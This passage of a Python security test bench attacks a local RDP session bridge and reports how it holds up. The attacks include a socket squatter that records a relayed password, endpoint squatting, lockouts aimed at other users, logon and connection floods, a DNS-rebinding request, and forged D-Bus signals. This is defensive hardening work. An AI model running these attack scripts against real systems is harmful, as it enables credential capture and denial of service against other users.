        health_code, health = _http(admin, "/healthz")
        while time.monotonic() - started < 12:
            lowest_free = min(lowest_free, state_free())
            time.sleep(0.01)
        written_file = bridge.base / "reports" / "written"
        for pid in _running(str(written_file)):
            os.kill(pid, signal.SIGTERM)  # it says how much it wrote, and ends
        wait_for(written_file.exists, "the flooder's report", 10)
        flooding[0] = False
        watcher.join()
        peer.close()
        bridge.stop()
        written = int(written_file.read_text())
        figures: dict[str, Any] = {
            "desktop_started": bool(desktop and "xsession" in desktop),
            "flood_written_mb": round(written / 1e6) if written else None,
            "log_mb_median_largest": [round(sorted(sizes)[len(sizes) // 2] / 1e6, 1),
                                      round(max(sizes) / 1e6, 1)] if sizes else None,
            "state_fs_free_lowest_mb": round(lowest_free / 1e6, 1),
            "state_fs_full_after_s": full_after,
            "rdp_logon_during_flood": "desktop" if rdp and "plain" in rdp else
                                      ("greeter" if rdp else "FAILED"),
            "otsapi_logon_during_flood": otsapi_ok,
            "healthz_during_flood": [health_code, health.get("ok")],
        }
        # The state's filesystem filled by anything else: does /healthz say so?
        with open(mount / "filler", "wb") as filler:
            try:
                while state_free() > 16 * 1024 * 1024:
                    filler.write(b"\0" * (1 << 20))
                    filler.flush()
            except OSError:
                pass
        bridge.start()
        code, health = _http(admin, "/healthz")
        figures["healthz_state_fs_16mb_free"] = [code, health.get("ok")]
        return figures
    finally:
        flooding[0] = False
        bridge.cleanup()
        _kill_under(bridge.base)
        for path in set(run_logs.glob("session-*.log")) - before:
            path.unlink(missing_ok=True)  # backends killed with the bridge away
        subprocess.run(["umount", "-l", str(mount)], check=False)
        shutil.rmtree(mount, ignore_errors=True)


def _running(*markers: str) -> list[int]:
    """Pids of processes whose command line holds every one of ``markers``."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes() if entry.name.isdigit() else b""
        except OSError:
            continue
        if cmdline and all(marker.encode() in cmdline for marker in markers):
            found.append(int(entry.name))
    return found


def half_started_kill9(root: Path) -> dict[str, Any]:
    """kill -9 while bob's desktop starts (it takes its time), a restart,
    bob's next logon."""
    slow = ["/usr/bin/python3", "BASE/standin_backend.py", "--socket", "{pipe_dir}/{endpoint}",
            "--delay", "600", "--ignore-term"]
    me = pwd.getpwuid(os.geteuid()).pw_name
    config = _modules(slow, "ready_timeout = 600\nstop_timeout = 1\n", user=me).replace(
        "ADMIN", "0").replace('user = "root"', f'user = "{me}"')
    bridge = Bridge(root, users={"bob": PASSWORD}, config=config)
    _open_base(bridge)
    try:
        bridge.start()
        peer = IcpPeer(bridge.icp_path)
        peer.handshake()
        peer.send_logon(1, "bob", PASSWORD)
        wait_for(lambda: "started xsession (pid" in bridge.log(), "the desktop's start", 20)
        [first] = _running("--delay", str(bridge.base))
        bridge.kill9()
        assert bridge.popen is not None
        bridge.popen.wait()
        peer.close()
        killed_at = time.monotonic()
        bridge.start()
        try:
            wait_for(lambda: not _alive(first), "the half-started desktop to go", 15)
            stopped_after: Any = round(time.monotonic() - killed_at, 2)
        except RuntimeError:
            stopped_after = "still running after 15 s"
        peer = IcpPeer(bridge.icp_path)
        peer.handshake()
        peer.send_logon(2, "bob", PASSWORD)
        wait_for(lambda: bridge.log().count("started xsession (pid") >= 2, "the next start", 20)
        desktops = [pid for pid in _running("--delay", str(bridge.base)) if _alive(pid)]
        peer.close()
        return {"half_started_desktop_after_restart": stopped_after,
                "bobs_desktops_after_next_logon": len(desktops),
                "stop_logged": "stopping xsession backend (pid" in bridge.log()}
    finally:
        bridge.cleanup()
        _kill_under(bridge.base)


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return not _zombie(pid)


def accounts(root: Path) -> dict[str, Any]:
    if os.geteuid() != 0:
        return {"skipped": "needs root (system accounts, /etc/shadow)"}
    locked = ensure_account("icpblocked", "-L")
    expired = ensure_account("icpbexpired", "-e", "1")
    desktop = ["/usr/bin/python3", "BASE/standin_backend.py", "--socket",
               "{pipe_dir}/{endpoint}", "--report", "BASE/reports/report.json"]
    bridge = Bridge(root, users={"root": PASSWORD, locked: PASSWORD, expired: PASSWORD},
                    config=_modules(desktop).replace("ADMIN", "0"))
    _open_base(bridge)
    report = bridge.base / "reports" / "report.json"
    figures: dict[str, Any] = {}
    try:
        bridge.start()
        peer = IcpPeer(bridge.icp_path)
        peer.handshake()
        for connection_id, name in enumerate(("root", locked, expired), 1):
            report.unlink(missing_ok=True)
            endpoint = endpoint_of(peer.logon(connection_id, name, PASSWORD))
            got = "FAILED" if endpoint is None else (
                "greeter" if "greeter" in endpoint else "desktop")
            if got == "desktop" and report.exists():
                got += f" as uid {json.loads(report.read_text())['uid']}"
            figures[f"logon_{name}"] = got
        for connection_id, (what, name) in enumerate(
                (("nul", "alice\0root"), ("200kb", "x" * 200_000)), 10):
            endpoint = endpoint_of(peer.logon(connection_id, name, "whatever"))
            figures[f"greeter_name_{what}"] = "greeter" if endpoint else "FAILED"
        peer.close()
        figures["tracebacks_in_log"] = bridge.log().count("Traceback")
        return figures
    finally:
        bridge.cleanup()
        _kill_under(bridge.base)


# -- issue 18: a local user, a guessing client ------------------------------------------

#: Debian's python3: the local attacker runs as another user, who may not
#: read this venv.
SYSTEM_PYTHON = "/usr/bin/python3"


def local_attacker() -> pwd.struct_passwd:
    """The account a local attacker runs as: the test suite's icpbtest if
    there is one, else nobody."""
    for name in ("icpbtest", "nobody"):
        try:
            return pwd.getpwnam(name)
        except KeyError:
            continue
    raise RuntimeError("no unprivileged account to attack from")


def as_attacker(code: str, *argv: str, env: dict[str, str] | None = None,
                **kwargs: Any) -> subprocess.Popen[str]:
    account = local_attacker()
    return subprocess.Popen([SYSTEM_PYTHON, "-c", code, *argv], user=account.pw_uid,
                            group=account.pw_gid, extra_groups=[], cwd="/", text=True,
                            env=env or {}, **kwargs)


SQUATTER = """
import fcntl, os, socket, sys, time
path, lock, record = sys.argv[1:4]
if lock:
    fd = os.open(lock, os.O_RDWR | os.O_CREAT, 0o644)
    fcntl.flock(fd, fcntl.LOCK_EX)
    print("ready", flush=True)
    time.sleep(600)
s = socket.socket(socket.AF_UNIX)
s.bind(path)
os.chmod(path, 0o777)
s.listen(8)
print("ready", flush=True)
while True:
    c, _ = s.accept()
    c.settimeout(2)
    data = b""
    try:
        while True:
            chunk = c.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    with open(record, "ab") as f:
        f.write(data)
    c.close()
"""


def rdp_server_dials(path: Path) -> str:
    """What ogon's RDP server meets at ``path``: it sends the handshake and
    a LogonUser with the password at once; "bridge" when the answer comes,
    else "no answer" (a squatter, or nobody)."""
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(3)
    try:
        sock.connect(str(path))
        handshake = RPCBase(tag=0, isResponse=False, status=RPCBase.SUCCESS,
                            msgType=icp.HANDSHAKE_MSG_TYPE,
                            versionInfo=pbRPC_pb2.VersionInfo(vmajor=1, vminor=1))
        logon = RPCBase(tag=2, isResponse=False, status=RPCBase.SUCCESS,
                        msgType=icp.MSG_LOGON_USER, payload=ICP_pb2.LogonUserRequest(
                            connectionId=1, username="bench", password=PASSWORD, domain="",
                            width=1024, height=768, colorDepth=32, clientHostName="attack",
                            clientAddress="192.0.2.7", clientBuildNumber=1, clientProductId=1,
                            clientHardwareId=0, clientProtocolType=2).SerializeToString())
        sock.sendall(icp_frame(handshake) + icp_frame(logon))
        return "bridge" if sock.recv(4) else "no answer"
    except OSError:
        return "no answer"
    finally:
        sock.close()


def icp_squat(root: Path) -> dict[str, Any]:
    """Another user's listener, then another user's held lock file, at the
    ICP socket's path in a 1777 directory before the bridge starts."""
    if os.geteuid() != 0:
        return {"skipped": "needs root (the squatter is another user)"}
    shared = Path(tempfile.mkdtemp(prefix="ib-pipe-", dir="/tmp"))
    shared.chmod(0o1777)
    try:
        return {"squatter_uid": local_attacker().pw_uid,
                **{case: _squat(root, shared, case) for case in ("listener", "lock")}}
    finally:
        shutil.rmtree(shared, ignore_errors=True)


def _squat(root: Path, shared: Path, case: str) -> dict[str, Any]:
    path = shared / f"{case}.sock"
    record = shared / f"{case}.got"
    squatter = as_attacker(SQUATTER, str(path), f"{path}.lock" if case == "lock" else "",
                           str(record), stdout=subprocess.PIPE)
    assert squatter.stdout is not None and squatter.stdout.readline().strip() == "ready"
    bridge = Bridge(root, icp_path=path)
    try:
        started = time.monotonic()
        bridge.start(wait=False)
        popen = bridge.popen
        assert popen is not None
        try:
            wait_for(lambda: port_open(bridge.port) or popen.poll() is not None, "the bridge",
                     20)
        except RuntimeError:
            pass
        listening = port_open(bridge.port)
        reached = rdp_server_dials(path)
        squatter.kill()
        squatter.wait()
        got = record.read_bytes() if record.exists() else b""
        lines = [line for line in bridge.log().splitlines()
                 if "another icp-bridge" in line or "another process" in line
                 or "taken by uid" in line]
        return {"bridge_started": listening,
                "started_after_s": round(time.monotonic() - started, 2) if listening else None,
                "rdp_server_reached": reached,
                "squatter_got_password": PASSWORD.encode() in got,
                "line": lines[-1].split("] ", 1)[-1][:150] if lines else None}
    finally:
        if squatter.poll() is None:
            squatter.kill()
            squatter.wait()
        bridge.cleanup()


ENDPOINT_SQUATTER = """
import os, socket, sys, select
record, paths = sys.argv[1], sys.argv[2:]
servers = []
for path in paths:
    s = socket.socket(socket.AF_UNIX)
    s.bind(path)
    s.listen(8)
    servers.append(s)
print("ready", flush=True)
while True:
    for s in select.select(servers, [], [])[0]:
        c, _ = s.accept()
        with open(record, "a") as f:
            f.write("connected\\n")
        c.close()
"""


def _backend_greeting(path: Path) -> str:
    """Who answers at a backend endpoint: "backend" (the stand-in's greeting),
    "someone else" (a connection but no greeting), "refused" (nobody)."""
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(2)
    try:
        sock.connect(str(path))
        return "backend" if sock.recv(64).startswith(b"icp-bridge-standin") else "someone else"
    except OSError:
        return "refused"
    finally:
        sock.close()


def endpoint_squat(root: Path) -> dict[str, Any]:
    """Issue 18, item 1: another user listens at the next sessions' backend
    endpoints in the 1777 pipe directory; then ogon's Qt greeter's habit
    (one connection, then no more) against the readiness check."""
    if os.geteuid() != 0:
        return {"skipped": "needs root (the squatter is another user)"}
    me = pwd.getpwuid(os.geteuid()).pw_name
    plain = ["/usr/bin/python3", "BASE/standin_backend.py", "--socket", "{pipe_dir}/{endpoint}"]
    figures: dict[str, Any] = {}
    for case, greeter_extra in (("squatters", []), ("one_connection_greeter", ["--accept-once"])):
        admin = free_port()
        config = _modules(plain, user=me).replace("ADMIN", str(admin)).replace(
            '"{pipe_dir}/{endpoint}"]\nendpoint = "ogon_{session_id}_greeter"',
            json.dumps("{pipe_dir}/{endpoint}") + "".join(f", {json.dumps(a)}"
                                                          for a in greeter_extra)
            + ']\nendpoint = "ogon_{session_id}_greeter"', 1)
        bridge = Bridge(root, users={"bench": PASSWORD}, config=config)
        _open_base(bridge)
        pipes = bridge.base / "pipes"
        pipes.mkdir(mode=0o1777)
        pipes.chmod(0o1777)
        record = bridge.base / "reports" / "squatter.log"
        squatter = None
        if case == "squatters":
            squatter = as_attacker(ENDPOINT_SQUATTER, str(record),
                                   *(str(pipes / f"ogon_{n}_{kind}") for n in (1, 2)
                                     for kind in ("greeter", "xsession")),
                                   stdout=subprocess.PIPE)
            assert squatter.stdout is not None and squatter.stdout.readline().strip() == "ready"
        try:
            bridge.start()
            peer = IcpPeer(bridge.icp_path)
            peer.handshake()
            logons = [(1, "", ""), (2, "bench", PASSWORD)] if case == "squatters" else \
                [(1, "", "")]
            results = []
            for connection_id, user, password in logons:
                started = time.monotonic()
                endpoint = endpoint_of(peer.logon(connection_id, user, password))
                answered = round(time.monotonic() - started, 3)
                name = endpoint.rsplit("\\", 1)[-1] if endpoint else None
                results.append({"logon": f"{connection_id}:{user or 'greeter'}",
                                "endpoint": name, "answered_s": answered,
                                "rdp_server_reached": _backend_greeting(pipes / name)
                                if name else "no endpoint"})
            peer.close()
            figures[case] = {"logons": results,
                             "squatter_connections": record.read_text().count("connected")
                             if record.exists() else 0}
        except Exception as e:
            figures[case] = {"error": f"{type(e).__name__}: {e}"}
        finally:
            if squatter is not None:
                squatter.kill()
                squatter.wait()
            bridge.cleanup()
            _kill_under(bridge.base)
    return figures


JUNK_LOGONS = """
import socket, struct, sys
port, source, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[4])
frames = bytes.fromhex(sys.argv[3])
s = socket.socket()
s.bind((source, 0))
s.connect(("127.0.0.1", port))
s.settimeout(60)
s.sendall(frames)
data, replies = b"", 0
while replies < count:
    chunk = s.recv(65536)
    if not chunk:
        break
    data += chunk
    replies, offset = 0, 0
    while offset + 4 <= len(data):
        (length,) = struct.unpack_from("!i", data, offset)
        if offset + 4 + length > len(data):
            break
        offset += 4 + length
        replies += 1
print(replies)
"""


def logon_frames(names: list[str], password: str = "guess") -> bytes:
    return b"".join(call_frame("logonConnection", otsapi.logonConnection_args(
        username=name, password=password, domain=""), seqid=n + 1)
        for n, name in enumerate(names))


def lockout_weapon(root: Path) -> dict[str, Any]:
    """Lockouts aimed at others: guesses for alice from 10 addresses, then
    her right password from an 11th; a lock that expired (lockout_time 4 s
    here) and one more guess; junk OTS API logons from a local user, then
    root's own logon from 127.0.0.1."""
    bridge = Bridge(root, users={"alice": "alice-pw", "bench": PASSWORD},
                    config_lines="lockout_time = 4\n")
    result: dict[str, Any] = {}
    try:
        bridge.start()
        peer = IcpPeer(bridge.icp_path, timeout=60)
        peer.handshake()
        for n in range(10):
            peer.logon(n + 1, "alice", "guess", address=f"198.51.100.{n + 1}")
        started = time.monotonic()
        endpoint = endpoint_of(peer.logon(11, "alice", "alice-pw", address="203.0.113.9")) or ""
        result["alice_right_password_after_10_guesses_from_10_addresses"] = {
            "got": "desktop" if "xsession" in endpoint else "greeter",
            "seconds": round(time.monotonic() - started, 1)}
        for n in range(10):
            peer.logon(20 + n, "alice", "guess", address="198.51.100.200")
        time.sleep(4.5)  # the lock expires
        peer.logon(40, "alice", "guess", address="198.51.100.200")
        started = time.monotonic()
        endpoint = endpoint_of(peer.logon(41, "alice", "alice-pw",
                                          address="198.51.100.200")) or ""
        result["after_a_lock_expired_one_guess_then_the_right_password"] = {
            "got": "desktop" if "xsession" in endpoint else "greeter",
            "seconds": round(time.monotonic() - started, 1)}
        peer.close()
        if os.geteuid() == 0:
            names = [f"junk{n}" for n in range(12)]
            junk = as_attacker(JUNK_LOGONS, str(bridge.port), "127.0.0.1",
                               logon_frames(names).hex(), str(len(names)),
                               stdout=subprocess.PIPE)
            junk.communicate(timeout=120)
            client, transport = bridge.client()
            ok = client.logonConnection("alice", "alice-pw", "").success
            transport.close()
            result["root_otsapi_logon_after_12_junk_logons_of_a_local_user"] = bool(ok)
        return result
    finally:
        bridge.cleanup()


def state_bytes(state_dir: Path) -> int:
    return sum(p.stat().st_size for p in state_dir.glob("state.sqlite3*"))


def lockout_rows(state_dir: Path) -> int:
    with sqlite3.connect(state_dir / "state.sqlite3") as db:
        return int(db.execute("SELECT COUNT(*) FROM lockouts").fetchone()[0])


async def _logons_from(port: int, source: str, frames: bytes, calls: int) -> int:
    """``calls`` framed calls from ``source`` (a loopback address); replies."""
    sock = socket.socket()
    sock.setblocking(False)
    sock.bind((source, 0))
    loop = asyncio.get_running_loop()
    await loop.sock_connect(sock, ("127.0.0.1", port))
    reader, writer = await asyncio.open_connection(sock=sock)
    writer.write(frames)
    answered = 0
    try:
        while answered < calls:
            (length,) = struct.unpack("!i", await asyncio.wait_for(reader.readexactly(4), 60))
            await reader.readexactly(length)
            answered += 1
    except (asyncio.IncompleteReadError, ConnectionError, TimeoutError):
        pass
    writer.close()
    return answered


def _failure_flood(root: Path, config_lines: str, rounds: int) -> dict[str, Any]:
    """``rounds`` times 20,001 failed OTS API logons with distinct names, 3
    from each of 6,667 loopback addresses (below a per-address lockout, as
    the review sent them); the growth after each round."""
    bridge = Bridge(root, config_lines=config_lines)
    try:
        bridge.start()
        time.sleep(1)
        rss_before, db_before = rss_mb(bridge.pid), state_bytes(bridge.state_dir)
        log_before = len(bridge.log())
        figures: dict[str, Any] = {"logons_per_round": 3 * 6667}
        for round_ in range(rounds):
            started = time.monotonic()

            async def attack(round_: int = round_) -> int:
                # 10 connections of 3 calls: within the password-check
                # queue (2 running, 256 waiting), so every logon is checked.
                semaphore = asyncio.Semaphore(10)

                async def one(n: int) -> int:
                    names = [f"r{round_}u{n}x{k}" for k in range(3)]
                    async with semaphore:
                        return await _logons_from(
                            bridge.port, f"127.0.{n // 250 + 1}.{n % 250 + 1}",
                            logon_frames(names), 3)

                return sum(await asyncio.gather(*(one(n) for n in range(6667))))

            answered = asyncio.run(attack())
            seconds = round(time.monotonic() - started, 1)
            time.sleep(2)
            log = bridge.log()[log_before:]
            figures[f"after_round_{round_ + 1}"] = {
                "answered": answered, "seconds": seconds,
                "rss_growth_mb": round(rss_mb(bridge.pid) - rss_before, 1),
                "state_db_growth_mb": round(
                    (state_bytes(bridge.state_dir) - db_before) / 2**20, 1),
                "lockout_rows": lockout_rows(bridge.state_dir),
                "log_growth_kb": round(len(log) / 1024, 1),
                "failed_logon_lines": log.count("failed logon")}
        return figures
    finally:
        bridge.cleanup()


def failure_flood(root: Path) -> dict[str, Any]:
    """The flood against the defaults, and twice with lockouts turned off
    (lockout_failures 1,000,000), where only the record cap holds (the
    second round shows whether growth goes on)."""
    return {"defaults": _failure_flood(root, "", rounds=1),
            "no_lockouts": _failure_flood(root, "lockout_failures = 1000000\n", rounds=2)}


def _raw_http(port: int, request: bytes, timeout: float = 10) -> tuple[int, bytes]:
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(request)
        data = b""
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    return (int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0), data


def _open_stream(port: int, token: str) -> tuple[int, socket.socket]:
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.sendall(f"GET /events HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                 f"Authorization: Bearer {token}\r\n\r\n".encode())
    data = b""
    while b"\r\n" not in data:
        chunk = sock.recv(4096)
        if not chunk:
            return 0, sock
        data += chunk
    return int(data.split(b" ", 2)[1]), sock


def fds(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


def admin_abuse(root: Path) -> dict[str, Any]:
    """The admin endpoint: /events streams on a USER token, then the admin's;
    a rebound DNS name; 3,000 idle connections; 2,000 HEAD /metrics; 200
    idle connections timing out (62 s); a non-ASCII request."""
    bridge = Bridge(root, users={"bench": PASSWORD, "bob": "bob-pw"}, levels={"bob": 0x49})
    result: dict[str, Any] = {}
    held: list[socket.socket] = []
    try:
        bridge.start()
        port = bridge.admin_port()
        client, transport = bridge.client()
        bob = client.logonConnection("bob", "bob-pw", "").authToken
        admin = client.logonConnection("bench", PASSWORD, "").authToken
        transport.close()
        statuses = []
        for _ in range(300):
            status, sock = _open_stream(port, bob)
            statuses.append(status)
            if status == 200:
                held.append(sock)
            else:
                sock.close()
        admin_status, sock = _open_stream(port, admin)
        sock.close()
        result["events_streams"] = {"user_token_streams_open": statuses.count(200),
                                    "admin_stream_status": admin_status}
        for sock in held:
            sock.close()
        held = []
        status, body = _raw_http(port, f"GET /metrics HTTP/1.1\r\nHost: evil.example:{port}\r\n"
                                   "Connection: close\r\n\r\n".encode())
        result["dns_rebinding_metrics"] = {"status": status, "bytes": len(body)}
        time.sleep(1)
        before = fds(bridge.pid)
        for _ in range(3000):
            held.append(socket.create_connection(("127.0.0.1", port), timeout=10))
        time.sleep(2)
        open_now = fds(bridge.pid) - before
        for sock in held:
            sock.close()
        held = []
        result["idle_connections"] = {"opened": 3000, "bridge_descriptors_held": open_now}
        time.sleep(1)
        log_before = len(bridge.log())
        for _ in range(2000):
            _raw_http(port, f"HEAD /metrics HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                        "Connection: close\r\n\r\n".encode())
        time.sleep(1)
        result["head_metrics_2000"] = {
            "log_growth_bytes": len(bridge.log()) - log_before}
        log_before = len(bridge.log())
        status, _ = _raw_http(port, f"GET /\xc3\xa9 HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                                "Connection: close\r\n\r\n".encode("latin-1"))
        time.sleep(0.5)
        result["non_ascii_request"] = {"status": status,
                                       "traceback": "Traceback" in bridge.log()[log_before:]}
        log_before = len(bridge.log())
        for _ in range(200):
            held.append(socket.create_connection(("127.0.0.1", port), timeout=10))
        time.sleep(62)  # twisted.web's idle timeout is 60 s
        log = bridge.log()[log_before:]
        result["idle_timeouts_200"] = {"timing_out_lines": log.count("Timing out client"),
                                       "log_growth_bytes": len(log)}
        return result
    finally:
        for sock in held:
            sock.close()
        bridge.cleanup()


DBUS_BUS = """<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-BUS Bus Configuration 1.0//EN"
 "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
<busconfig>
  <type>custom</type>
  <listen>unix:tmpdir=/tmp</listen>
  <auth>EXTERNAL</auth>
  <policy context="default">
    <allow user="*"/>
    <allow own="*"/>
    <allow send_type="method_call"/>
    <allow send_type="signal"/>
    <allow receive_type="signal"/>
    <allow receive_type="method_return"/>
    <allow receive_type="error"/>
  </policy>
  <include>{policy}</include>
</busconfig>
"""

FORGER = """
import sys
from jeepney import DBusAddress, new_signal
from jeepney.bus_messages import message_bus
from jeepney.io.blocking import open_dbus_connection
connection = open_dbus_connection(sys.argv[1])
for n in range(int(sys.argv[2])):
    connection.send(new_signal(DBusAddress("/ogon/SessionManager/session/notification",
                                           interface="ogon.SessionManager.session.notification"),
                               "SessionNotification", "uu", (5, 4242)))
connection.send_and_get_reply(message_bus.GetId(), timeout=10)
"""


def dbus_forge(root: Path) -> dict[str, Any]:
    """An unprivileged user sends 100 forged SessionNotification signals on a
    dbus-daemon that includes the checkout's shipped policy; how many a
    listener hears."""
    daemon_path = shutil.which("dbus-daemon")
    if os.geteuid() != 0 or daemon_path is None:
        return {"skipped": "needs root and dbus-daemon"}
    import jeepney
    from jeepney import MatchRule
    from jeepney.bus_messages import message_bus
    from jeepney.io.blocking import open_dbus_connection

    base = Path(tempfile.mkdtemp(prefix="ib-dbus-", dir="/tmp"))
    base.chmod(0o755)
    config = base / "bus.conf"
    config.write_text(DBUS_BUS.format(policy=root / "contrib" / "dbus" / "icp-bridge.conf"))
    shutil.copytree(Path(jeepney.__file__).parent, base / "lib" / "jeepney")
    daemon = subprocess.Popen([daemon_path, "--config-file", str(config), "--address",
                               f"unix:path={base}/bus", "--nofork", "--print-address"],
                              stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    try:
        assert daemon.stdout is not None
        address = daemon.stdout.readline().decode().strip()
        (base / "bus").chmod(0o777)
        listener = open_dbus_connection(address)
        listener.send_and_get_reply(message_bus.AddMatch(MatchRule(
            type="signal", interface="ogon.SessionManager.session.notification")), timeout=10)
        forger = as_attacker(FORGER, address, "100", env={"PYTHONPATH": str(base / "lib")})
        forger.wait(60)
        heard = 0
        while True:
            try:
                message = listener.receive(timeout=1)
            except TimeoutError:
                break
            heard += message.header.fields.get(jeepney.HeaderFields.member) == \
                "SessionNotification"
        listener.close()
        return {"forged_signals_sent": 100, "heard_by_a_listener": heard}
    finally:
        daemon.terminate()
        daemon.wait(10)
        shutil.rmtree(base, ignore_errors=True)


ATTACKS: dict[str, Callable[[Path], dict[str, Any]]] = {
    "token_bomb": token_bomb, "never_reads": never_reads,
    "rdp_stops_reading": rdp_stops_reading, "password_queue": password_queue,
    "timing": timing, "icp_silent": icp_silent, "stale_lock": stale_lock,
    "planted_fifo": planted_fifo, "foreign_socket_dir": foreign_socket_dir,
    "corrupt_state": corrupt_state, "disk_full": disk_full,
    "output_flood": output_flood, "half_started_kill9": half_started_kill9,
    "accounts": accounts, "endpoint_squat": endpoint_squat,
    "icp_squat": icp_squat, "lockout_weapon": lockout_weapon, "failure_flood": failure_flood,
    "admin_abuse": admin_abuse, "dbus_forge": dbus_forge,
}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attacks", nargs="*", choices=[[], *ATTACKS], metavar="ATTACK",
                        help=f"some of: {', '.join(ATTACKS)} (default: all)")
    parser.add_argument("--bridge-root", type=Path, default=ROOT,
                        help="run the bridge of this checkout (to compare with an older one)")
    parser.add_argument("--keep", action="store_true", help="keep the bridges' directories")
    args = parser.parse_args()
    global KEEP
    KEEP = args.keep
    for name in args.attacks or ATTACKS:
        started = time.monotonic()
        try:
            figures = ATTACKS[name](args.bridge_root.resolve())
        except Exception as e:  # one attack's failure is a figure too
            figures = {"error": f"{type(e).__name__}: {e}"}
        figures["bench_seconds"] = round(time.monotonic() - started, 1)
        print(json.dumps({name: figures}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
